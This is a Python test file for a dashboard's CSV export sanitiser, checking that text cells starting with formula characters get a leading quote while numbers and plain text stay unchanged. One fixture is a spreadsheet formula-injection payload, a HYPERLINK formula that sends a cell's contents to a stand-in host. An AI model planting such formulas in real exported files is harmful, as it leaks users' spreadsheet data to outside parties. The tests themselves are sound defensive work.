"""Safe CSV cells: a text cell that a spreadsheet would run as a formula gets a quote in front."""

from __future__ import annotations

import pandas as pd
import pytest

from dashboard.services.safe_csv import csv_bytes, safe_cell

LINK = '=HYPERLINK("https://example.invalid/?d="&B3,"Open")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (LINK, "'" + LINK),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        # Text that looks like a number is still text.
        ("-1", "'-1"),
        # Harmless text, the character later in the cell, and no value: as they are.
        ("Ash Wedding", "Ash Wedding"),
        ("Ash = Rowan", "Ash = Rowan"),
        ("", ""),
        (None, None),
        # Numbers stay numbers.
        (-5, -5),
        (-0.25, -0.25),
    ],
)
def test_a_text_cell_that_starts_a_formula_gets_a_quote(value, written):
    assert safe_cell(value) == written


def test_the_file_quotes_text_cells_and_keeps_negative_numbers():
    frame = pd.DataFrame(
        {
            "name": [LINK, "-1", "Bay"],
            "change": [-5, 3, 0],
            "rate": [-0.25, 0.5, 1.0],
            # A column of numbers held as objects (as kpis.csv's values are) and a gap.
            "value": pd.Series([-2.5, None, 4], dtype=object),
        }
    )

    assert csv_bytes(frame).decode("utf-8") == (
        "name,change,rate,value\n"
        '"\'=HYPERLINK(""https://example.invalid/?d=""&B3,""Open"")",-5,-0.25,-2.5\n'
        "'-1,3,0.5,\n"
        "Bay,0,1.0,4\n"
    )
